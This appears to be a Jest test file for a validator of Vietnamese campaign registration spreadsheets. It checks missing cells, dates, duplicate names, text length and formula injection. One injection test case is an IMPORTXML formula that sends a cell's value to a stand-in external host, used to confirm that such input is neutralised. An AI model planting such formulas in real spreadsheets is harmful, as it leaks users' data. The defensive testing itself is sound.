/** Row rules on a unit's registration table, as a unit sees the messages. */
import { validateEntries, checkRows } from '../../src/core/validation';
import { campaign, entry, blank, ward, department, sheetDate } from './fixtures';

const today = '2021-05-10';
const check = (...rows: Parameters<typeof entry>[]) => validateEntries(campaign, department, rows.map((r) => entry(...r)), today);

describe('what counts as an entry', () => {
  it('skips printed rows holding only their STT number, and fully blank rows', () => {
    const r = validateEntries(campaign, department, [blank(1, 10, '1.'), blank(1, 11, 2), blank(1, 12), blank(2, 20, '   ')], today);
    expect(r.entries).toEqual([]);
    expect(r.problems).toEqual([]);
  });

  it('treats a row with only whitespace in its cells as empty', () => {
    const r = validateEntries(campaign, department, [{ content: 1, row: 10, cells: { stt: '1.', name: '  ', form: '\n', time: '', expected: ' ', kind: '' } }], today);
    expect(r.entries).toHaveLength(0);
  });

  it('a fully filled row is one entry with no problem, normalised for the summary', () => {
    const r = check([1, { time: 'Tháng 8/2021', kind: 'Nhân rộng từ Phường 9' }, 14]);
    expect(r.problems).toEqual([]);
    expect(r.entries).toEqual([
      expect.objectContaining({ row: 14, content: 1, name: 'Mái ấm tình thương cho người già neo đơn', kind: { kind: 'nhan-rong', detail: 'từ Phường 9' }, rounds: [2], counts: true, rewrites: {} }),
    ]);
    expect(r.entries[0].time).toMatchObject({ ok: true, start: '2021-08-01', end: '2021-08-31' });
  });

  it('accepts a real date cell in Thời gian thực hiện', () => {
    const r = check([3, { time: sheetDate(2021, 6, 5) }, 30]);
    expect(r.problems).toEqual([]);
    expect(r.entries[0].rounds).toEqual([1]);
  });
});

describe('partly filled rows', () => {
  it('names each missing column by its header, with the row number', () => {
    const r = validateEntries(campaign, department, [{ content: 1, row: 12, cells: { stt: '1.', name: 'Tủ bánh mì 0 đồng', form: '', time: '', expected: '', kind: '' } }], today);
    expect(r.problems.map((p) => p.message)).toEqual([
      'Dòng 12, cột Hình thức thực hiện: còn trống; hãy điền hình thức thực hiện.',
      'Dòng 12, cột Thời gian thực hiện: còn trống; hãy điền thời gian thực hiện.',
      'Dòng 12, cột Dự kiến kết quả (hiệu quả, số lượng đạt được): còn trống; hãy điền dự kiến kết quả.',
      'Dòng 12, cột Ghi chú: còn trống; hãy ghi “tiếp tục thực hiện”, “nhân rộng” hoặc “mô hình mới”.',
    ]);
    expect(r.problems.every((p) => p.severity === 'error' && p.code === 'missing')).toBe(true);
    expect(r.problems.map((p) => p.columnIndex)).toEqual([3, 4, 5, 6]);
    expect(r.entries[0].counts).toBe(false);
  });

  it('a row with a result but no model name asks for the name', () => {
    const r = check([1, { name: '' }, 15]);
    expect(r.problems).toEqual([
      { row: 15, column: 'name', columnIndex: 2, severity: 'error', code: 'missing', message: 'Dòng 15, cột Tên mô hình: còn trống; hãy điền tên mô hình.' },
    ]);
  });

  it.each([
    ['Chi bộ 3', 'không đọc được “Chi bộ 3”; hãy ghi “tiếp tục thực hiện”, “nhân rộng” hoặc “mô hình mới”'],
    ['Môi trường', 'không đọc được “Môi trường”'],
    ['x', 'không đọc được “x”'],
  ])('Ghi chú %p is an error listing the three kinds', (kind, text) => {
    const r = check([1, { kind }, 16]);
    expect(r.problems).toHaveLength(1);
    expect(r.problems[0]).toMatchObject({ row: 16, column: 'kind', severity: 'error', code: 'kind-unreadable' });
    expect(r.problems[0].message).toContain(`Dòng 16, cột Ghi chú: ${text}`);
  });

  it.each([
    ['Sắp tới', 'time-unreadable', 'không đọc được thời gian “Sắp tới”'],
    ['Tháng 3 - 4/2021', 'time-out-of-period', 'đọc được 01/03/2021 – 30/04/2021, ngoài thời gian thi đua 07/05/2021 – 15/10/2021'],
    ['31/04/2021', 'time-invalid', '“31/04/2021”: ngày 31/04/2021 không có thật; hãy sửa lại ngày, ví dụ “07/05/2021”.'],
  ])('Thời gian %p is an error saying what was read', (time, code, text) => {
    const r = check([2, { time }, 17]);
    expect(r.problems).toHaveLength(1);
    expect(r.problems[0]).toMatchObject({ row: 17, column: 'time', columnIndex: 4, severity: 'error', code });
    expect(r.problems[0].message).toContain(`Dòng 17, cột Thời gian thực hiện: ${text}`);
    expect(r.entries[0].rounds).toEqual([]);
  });

  it('sorts problems by row then column', () => {
    const r = check([1, { kind: '?', name: '' }, 22], [1, { time: '??' }, 21]);
    expect(r.problems.map((p) => [p.row, p.column])).toEqual([[21, 'time'], [22, 'name'], [22, 'kind']]);
  });
});

describe('duplicates', () => {
  it('warns on the second row with the same model name, naming the first', () => {
    const r = check([1, { name: 'Bếp ăn tình thương' }, 12], [1, { name: 'Bếp ăn tình thương' }, 13]);
    expect(r.problems).toEqual([expect.objectContaining({ row: 13, column: 'name', severity: 'warning', code: 'duplicate-name' })]);
    expect(r.problems[0].message).toBe('Dòng 13, cột Tên mô hình: trùng tên mô hình với dòng 12 (“Bếp ăn tình thương”); nếu là hai mô hình khác nhau hãy đặt tên phân biệt, nếu không hãy xóa dòng này.');
    expect(r.entries.map((e) => e.counts)).toEqual([true, false]);
  });

  it('sees through case, spacing, punctuation and missing diacritics, across contents', () => {
    const r = check([1, { name: 'Bếp ăn tình thương' }, 12], [3, { name: '  BEP AN  tinh thuong. ' }, 40]);
    expect(r.problems.map((p) => [p.row, p.code])).toEqual([[40, 'duplicate-name']]);
  });

  it('does not confuse different models', () => {
    const r = check([1, { name: 'Bếp ăn tình thương' }, 12], [1, { name: 'Bếp ăn tình thương số 2' }, 13]);
    expect(r.problems).toEqual([]);
  });
});

describe('long text and formula injection', () => {
  it('warns when a text is longer than the column allows (campaign maxLength), counting characters not bytes', () => {
    const ok = check([1, { name: 'ấ'.repeat(300) }, 12]);
    expect(ok.problems).toEqual([]);
    const long = check([1, { name: 'ấ'.repeat(301) }, 12]);
    expect(long.problems).toEqual([expect.objectContaining({ column: 'name', severity: 'warning', code: 'too-long' })]);
    expect(long.problems[0].message).toBe('Dòng 12, cột Tên mô hình: dài 301 ký tự, quá 300 ký tự cho phép; hãy viết gọn lại.');
    expect(long.entries[0].counts).toBe(true);
  });

  it.each([
    ['=IMPORTXML("http://x.example/?q="&A1, "//a")', 'name', 'error'],
    ['@SUM(A1:A9)', 'expected', 'error'],
    ['+84 28 3930 0000', 'form', 'error'],
    ['-1+A1', 'expected', 'error'],
    ['- Thăm hỏi, tặng quà gia đình chính sách', 'form', 'warning'],
    ['+ Vận động trồng cây xanh', 'form', 'warning'],
  ] as const)('%p in %s is reported and neutralised with an apostrophe (%s)', (text, column, severity) => {
    const r = check([1, { [column]: text }, 18]);
    const p = r.problems.find((x) => x.code === 'formula-injection')!;
    expect(p).toMatchObject({ row: 18, column, severity });
    expect(p.message).toContain('đã được chuyển thành văn bản');
    expect(r.entries[0].rewrites).toEqual({ [column]: `'${text}` });
  });

  it('changes nothing else a unit typed', () => {
    const r = check([1, { name: '  Tổ tự quản “Hẻm xanh – sạch – đẹp”  ' }, 19]);
    expect(r.entries[0].rewrites).toEqual({});
    expect(r.entries[0].name).toBe('Tổ tự quản “Hẻm xanh – sạch – đẹp”');
  });
});

describe('checkRows on a ward’s real-looking table', () => {
  it('reads kinds and rounds of a mixed table', () => {
    const rows = [
      entry(1, { name: 'Tủ bánh mì 0 đồng', time: 'Thường xuyên', kind: 'Tiếp tục thực hiện năm 2020' }, 12),
      entry(1, { name: 'Nồi cháo tình thương', time: 'Từ 07/5 đến 02/7/2021', kind: 'MH mới' }, 13),
      entry(2, { name: 'Tiếp nhận hồ sơ qua Zalo', time: 'Quý III/2021', kind: 'nhân rộng từ Phường 9' }, 25),
      entry(3, { name: 'Hẻm xanh 42 Trần Quốc Thảo', time: 'đợt 2', kind: 'Nhân rộng mô hình của Hội LHPN' }, 33),
      blank(4, 40, '1.'),
    ];
    const { entries, problems } = checkRows(campaign, rows);
    expect(problems).toEqual([]);
    expect(entries.map((e) => [e.row, e.kind?.kind, e.kind?.detail, e.rounds])).toEqual([
      [12, 'tiep-tuc', 'năm 2020', [1, 2]],
      [13, 'moi', undefined, [1]],
      [25, 'nhan-rong', 'từ Phường 9', [1, 2]],
      [33, 'nhan-rong', 'mô hình của Hội LHPN', [2]],
    ]);
    expect(validateEntries(campaign, ward, rows, today).quotas[0].have).toBe(2);
  });
});
